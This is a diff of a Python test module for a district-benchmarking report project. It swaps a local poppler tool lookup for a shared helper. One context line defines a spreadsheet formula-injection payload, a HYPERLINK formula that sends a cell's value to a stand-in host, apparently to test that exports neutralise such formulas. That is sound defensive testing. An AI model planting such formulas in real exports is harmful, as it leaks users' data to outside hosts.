@@ -10,8 +10,6 @@ out inert; a withdrawn district has no report; expired reports are purged.
 import csv
 import hashlib
 import io
-import os
-import shutil
 import subprocess
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -39,6 +37,7 @@ from benchmarking_assets.reports import (
 )
 from benchmarking_assets.warehouse import Warehouse, WarehouseStore
 from benchmarking_assets.warehouse.schema import DISTRICT_DATA_HISTORY
+from benchmarking_assets_tests.system_tools import require_executable
 
 YEARS = range(2016, 2021)
 YEAR = 2020
@@ -46,15 +45,9 @@ STATES = (("CA", 6), ("OR", 41), ("NV", 32))
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
 
 
-
 def poppler(tool: str) -> str:
-    """Path of a poppler-utils tool; skipped with the install command outside CI."""
-    found = shutil.which(tool)
-    if found:
-        return found
-    if os.environ.get("CI"):
-        pytest.fail(f"CI needs {tool} from poppler-utils (installed by .ci/run)")
-    pytest.skip(f"{tool} is not installed (apt-get install poppler-utils); CI runs this test")
+    return require_executable(tool, apt_package="poppler-utils")
+
 
 def _u(*parts: object) -> float:
     return int.from_bytes(hashlib.sha256("|".join(map(str, parts)).encode()).digest()[:8]) / 2**64
